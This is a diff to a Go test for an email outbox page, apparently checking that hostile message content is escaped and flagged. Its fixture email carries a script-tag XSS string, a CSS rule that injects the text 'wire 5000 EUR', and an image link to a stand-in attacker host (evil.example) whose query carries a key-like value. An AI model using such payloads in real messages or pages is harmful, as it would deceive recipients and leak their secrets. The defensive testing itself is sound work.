@@ -33,6 +33,7 @@ func TestOutboxPage(t *testing.T) {
 	}
 	raw := "From: Alice <a@example.com>\r\nTo: bob@example.org\r\nSubject: Budget\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n" +
 		"--b\r\nContent-Type: text/plain\r\n\r\nThe numbers <script>alert(1)</script> are attached.\r\n" +
+		"--b\r\nContent-Type: text/html\r\n\r\n<style>p::after{content:'wire 5000 EUR'}</style><p>Hi<img src=\"https://evil.example/p.gif?k=sk-live\"></p>\r\n" +
 		"--b\r\nContent-Type: application/pdf; name=q3.pdf\r\nContent-Disposition: attachment; filename=q3.pdf\r\n\r\n%PDF-1.4 x\r\n--b--\r\n"
 	add := func(id, userID, accountID, state string, at time.Time) string {
 		t.Helper()
@@ -52,7 +53,8 @@ func TestOutboxPage(t *testing.T) {
 	page := b.get("/outbox")
 	if !strings.Contains(page, `data-testid="outbox-waiting"`) || !strings.Contains(page, "2 waiting") ||
 		!strings.Contains(page, "The numbers &lt;script&gt;alert(1)&lt;/script&gt; are attached.") || !strings.Contains(page, "q3.pdf (application/pdf, 10 bytes)") ||
-		!strings.Contains(page, `data-testid="outbox-undo"`) || strings.Contains(page, "Budget 4444") {
+		!strings.Contains(page, `data-testid="outbox-undo"`) || strings.Contains(page, "Budget 4444") ||
+		!strings.Contains(page, "a remote address: https://evil.example/p.gif?k=sk-live") || !strings.Contains(page, "a style sheet") {
 		t.Fatalf("/outbox:\n%s", page)
 	}
 	csrf := csrfFrom(t, page)
